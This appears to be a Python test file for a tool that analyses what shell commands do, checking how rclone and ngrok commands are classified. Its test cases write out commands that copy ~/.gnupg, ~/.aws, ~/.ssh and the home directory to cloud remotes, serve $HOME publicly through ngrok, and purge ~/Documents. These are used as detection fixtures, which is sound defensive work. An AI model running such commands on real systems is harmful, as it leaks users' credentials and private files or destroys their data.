"""Trees sent to a cloud store by rclone and a directory published by ngrok's file server (blind-shell-15's
package-publish-and-registry family): files.FileEffects._subcommand's remote transfers, entries.served's file URLs."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import HOME, effects


@pytest.mark.parametrize(
    ("command", "tree", "host"),
    [
        ("rclone copy ~ b2:drop/home --max-depth 3", HOME, "b2"),
        ("rclone copyto ~/.gnupg mega:gpg", f"{HOME}/.gnupg", "mega"),
        ("rclone sync ~/.aws gdrive:aws --transfers 8", f"{HOME}/.aws", "gdrive"),
        ("rclone move ~/Documents s3:bucket/docs", f"{HOME}/Documents", "s3"),
    ],
)
def test_a_local_tree_copied_to_a_remote_is_read_whole_and_sent(
    command: str, tree: str, host: str, tmp_path: Path
) -> None:
    found = effects(command, tmp_path)
    assert [(e["path"], e["recursive"]) for e in found if e["op"] == "read"] == [(tree, True)]
    assert [e["host"] for e in found if e["op"] == "send"] == [host]


def test_a_copy_between_local_paths_is_a_local_copy(tmp_path: Path) -> None:
    found = effects("rclone copy a b", tmp_path)
    assert [e["op"] for e in found] == ["copy", "write"]
    assert not [e for e in found if e["op"] == "send"]


@pytest.mark.parametrize(
    ("command", "served"),
    [
        ('ngrok http "file://$HOME"', HOME),
        ("ngrok http file:///srv/www", "/srv/www"),
    ],
)
def test_ngrok_serves_the_directory_a_file_url_names(command: str, served: str, tmp_path: Path) -> None:
    reads = [e for e in effects(command, tmp_path) if e["op"] == "read" and e.get("served")]
    assert [(e["path"], e["recursive"]) for e in reads] == [(served, True)]


def test_ngrok_forwarding_a_port_serves_no_directory(tmp_path: Path) -> None:
    assert [e for e in effects("ngrok http 3000", tmp_path) if e.get("served")] == []


@pytest.mark.parametrize(
    ("command", "deleted"),
    [
        (f"rclone purge :local:{HOME}/Documents", f"{HOME}/Documents"),
        (f"rclone delete :local,links,nounc=true:{HOME}/Documents", f"{HOME}/Documents"),
        (f"""rclone purge ':local,description="a:b, c":{HOME}/Documents'""", f"{HOME}/Documents"),
        ("rclone purge :local:", "."),
    ],
)
def test_an_on_the_fly_local_backend_is_this_machines_file_system(command: str, deleted: str, tmp_path: Path) -> None:
    """rclone's connection strings (https://rclone.org/docs/#connection-strings): `:local:PATH` and `:local,…:PATH`
    name a path here, not another host's store (sends.backend_path)."""
    found = effects(command, tmp_path)
    paths = [e["path"] for e in found if e["op"] == "delete"]
    assert paths == [str(tmp_path) if deleted == "." else deleted]
    assert not [e for e in found if e["op"] == "send"]


def test_a_copy_to_a_local_backend_sends_nothing_and_a_tilde_there_is_no_home(tmp_path: Path) -> None:
    found = effects("rclone copy ~/.ssh :local:~/backup", tmp_path)
    assert not [e for e in found if e["op"] == "send"]
    assert [e["path"] for e in found if e["op"] == "write"] == [f"{tmp_path}/~/backup"]
    assert [e["host"] for e in effects("rclone copy ~/.ssh :sftp,host=h.example:keys", tmp_path) if e["op"] == "send"]
